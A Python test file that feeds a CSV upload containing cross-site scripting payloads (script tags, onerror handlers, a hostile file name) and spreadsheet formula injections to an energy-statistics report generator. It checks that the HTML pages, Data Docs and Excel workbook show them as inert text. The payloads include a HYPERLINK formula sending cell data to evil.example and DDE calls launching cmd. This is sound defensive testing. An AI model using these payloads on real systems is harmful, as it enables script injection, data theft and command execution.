"""Hostile cell values in an upload come back harmless in every report: shown as text in our HTML page and in
GX's Data Docs (checked by parsing the pages and by a real browser running them), text cells, never formulas,
in the marked workbook."""

from __future__ import annotations

import shutil
import subprocess
import zipfile
from html.parser import HTMLParser
from pathlib import Path

import pytest
from fixtures_uploads import gx_rules, monthly_row, write_csv

from energystat.ingest.parse import parse_upload

__all__ = ["gx_rules"]

SCRIPT = "<script>alert(1)</script>"
BREAK_OUT = '"><img src=x onerror=alert(2)>'
# Payloads a browser would visibly act on (changing the page) if they ran: the browser check looks for that.
TITLE_CHANGER = "<img src=x onerror=\"document.title='XSS'\">"
BODY_MARKER = "<script>document.documentElement.setAttribute('data-xss','ran')</script>"
HYPERLINK = '=HYPERLINK("http://evil.example/steal?d="&A1,"点击查看")'
DDE = "=cmd|' /C calc'!A0"
FORMULAS = (HYPERLINK, DDE, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1")


class _Elements(HTMLParser):
    """Every element's tag and attributes, and the text inside <script> elements, of a page."""

    def __init__(self) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.scripts: list[str] = []
        self.text: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))
        self._in_script = tag == "script"

    def handle_endtag(self, tag: str) -> None:
        self._in_script = False

    def handle_data(self, data: str) -> None:
        (self.scripts if self._in_script else self.text).append(data)


def _elements(page: Path) -> _Elements:
    parser = _Elements()
    parser.feed(page.read_text(encoding="utf-8"))
    return parser


PAYLOAD_MARKERS = ("alert(", "XSS", "data-xss")


def _assert_inert(page: Path, shown: tuple[str, ...]) -> None:
    """No element, event handler or script of `page` comes from the upload; `shown` values are visible text."""
    parsed = _elements(page)
    handlers = [(tag, name, value) for tag, attrs in parsed.elements for name, value in attrs.items()
                if name.startswith("on") and any(marker in (value or "") for marker in PAYLOAD_MARKERS)]
    assert handlers == [], f"{page.name}: event handlers from the upload"
    assert not [tag for tag, attrs in parsed.elements if tag == "img" and attrs.get("src") == "x"]
    assert not [s for s in parsed.scripts if any(marker in s for marker in PAYLOAD_MARKERS)]
    text = "".join(parsed.text)
    for value in shown:
        assert value in text, f"{page.name}: {value!r} is not shown as text"


@pytest.fixture(scope="module")
def hostile_report(gx_rules, tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    from energystat.ingest.report import report_paths, write_report

    folder = tmp_path_factory.mktemp("hostile") / "450100" / "2024-03"
    rows = [
        monthly_row(1),
        monthly_row(2, 统计期=SCRIPT),  # M004: shown with its value in the findings and in GX's unexpected list
        monthly_row(3, **{"水(吨)": BREAK_OUT}),  # not a number: shown as the cell was written
        monthly_row(4, **{"电力(千瓦时)": TITLE_CHANGER, "天然气(立方米)": BODY_MARKER}),
        monthly_row(5, 单位名称=HYPERLINK, **{"汽油(升)": DDE}),
        *[monthly_row(6 + i, 单位名称=formula) for i, formula in enumerate(FORMULAS[2:])],
    ]
    # CSV: every cell arrives as the text typed (an xlsx written by openpyxl would store "=…" as real formulas).
    # A file name is as untrusted as its cells (a "/" cannot be in one, so no closing tags).
    upload = write_csv(folder / "450100_2024-03_能源资源消费月报<img src=x onerror=alert(3)>.csv", rows)
    parsed = parse_upload(upload, "450100", "2024-03")
    report = gx_rules.validate(parsed, gx_rules.context_without_warehouse("450100", "2024-03", "not needed"))
    assert report.status == "rejected"
    write_report(parsed, report, folder / "report")
    return report_paths(parsed, folder / "report")


def test_the_html_report_shows_hostile_values_as_text(hostile_report: dict[str, Path]) -> None:
    page = hostile_report["html"]
    _assert_inert(page, (SCRIPT, BREAK_OUT, TITLE_CHANGER, "onerror=alert(3)"))
    policy = [a for tag, a in _elements(page).elements if tag == "meta" and a.get("http-equiv")]
    assert policy and "default-src 'none'" in (policy[0]["content"] or "")  # and no script could run anyway


def test_gx_data_docs_show_hostile_values_as_text(hostile_report: dict[str, Path]) -> None:
    docs = hostile_report["gx_docs"].parent
    pages = sorted(docs.rglob("*.html"))
    [validation_page] = [p for p in pages if "validations" in p.parts]
    for page in pages:
        _assert_inert(page, ())
    _assert_inert(validation_page, (SCRIPT, BREAK_OUT, TITLE_CHANGER))
    assert not [p for p in docs.rglob("*") if "<" in p.name or ">" in p.name]  # the file name made safe


def _browser_dom(page: Path) -> str:
    """The page's DOM after a real Chromium loaded it and ran whatever scripts it has."""
    chromium = shutil.which("chromium") or shutil.which("chromium-browser")
    if chromium is None:
        pytest.skip("no chromium on this machine (.ci/run installs it)")
    result = subprocess.run(
        [chromium, "--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--virtual-time-budget=3000",
         "--dump-dom", page.as_uri()], capture_output=True, text=True, timeout=120, check=True)
    assert "<html" in result.stdout
    return result.stdout


def test_a_browser_opening_the_reports_runs_nothing_from_the_upload(hostile_report: dict[str, Path]) -> None:
    [validation_page] = hostile_report["gx_docs"].parent.glob("validations/**/*.html")
    for page in (hostile_report["html"], validation_page):
        dom = _browser_dom(page)
        title = dom.split("<title>", 1)[1].split("</title>", 1)[0]
        assert "XSS" not in title and 'data-xss="ran"' not in dom, f"{page.name}: a payload ran in the browser"
        assert "document.title='XSS'" in dom  # the payload is on the page, as text


def test_the_marked_workbook_keeps_formula_looking_cells_as_text(hostile_report: dict[str, Path]) -> None:
    from openpyxl import load_workbook

    workbook = load_workbook(hostile_report["xlsx"])
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    by_value = {cell.value: cell for cell in cells if isinstance(cell.value, str)}
    for formula in FORMULAS:
        cell = by_value[formula]  # every formula-looking value is there, character for character
        assert cell.data_type == "s" and cell.quotePrefix, (formula, cell.data_type)
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    with zipfile.ZipFile(hostile_report["xlsx"]) as archive:  # what Excel reads: no formula element anywhere
        sheets = [archive.read(name).decode() for name in archive.namelist() if name.startswith("xl/worksheets/")]
    assert sheets and not [xml for xml in sheets if "<f>" in xml or "<f " in xml]
    assert by_value["测试单位1"].quotePrefix is False  # ordinary text stays ordinary
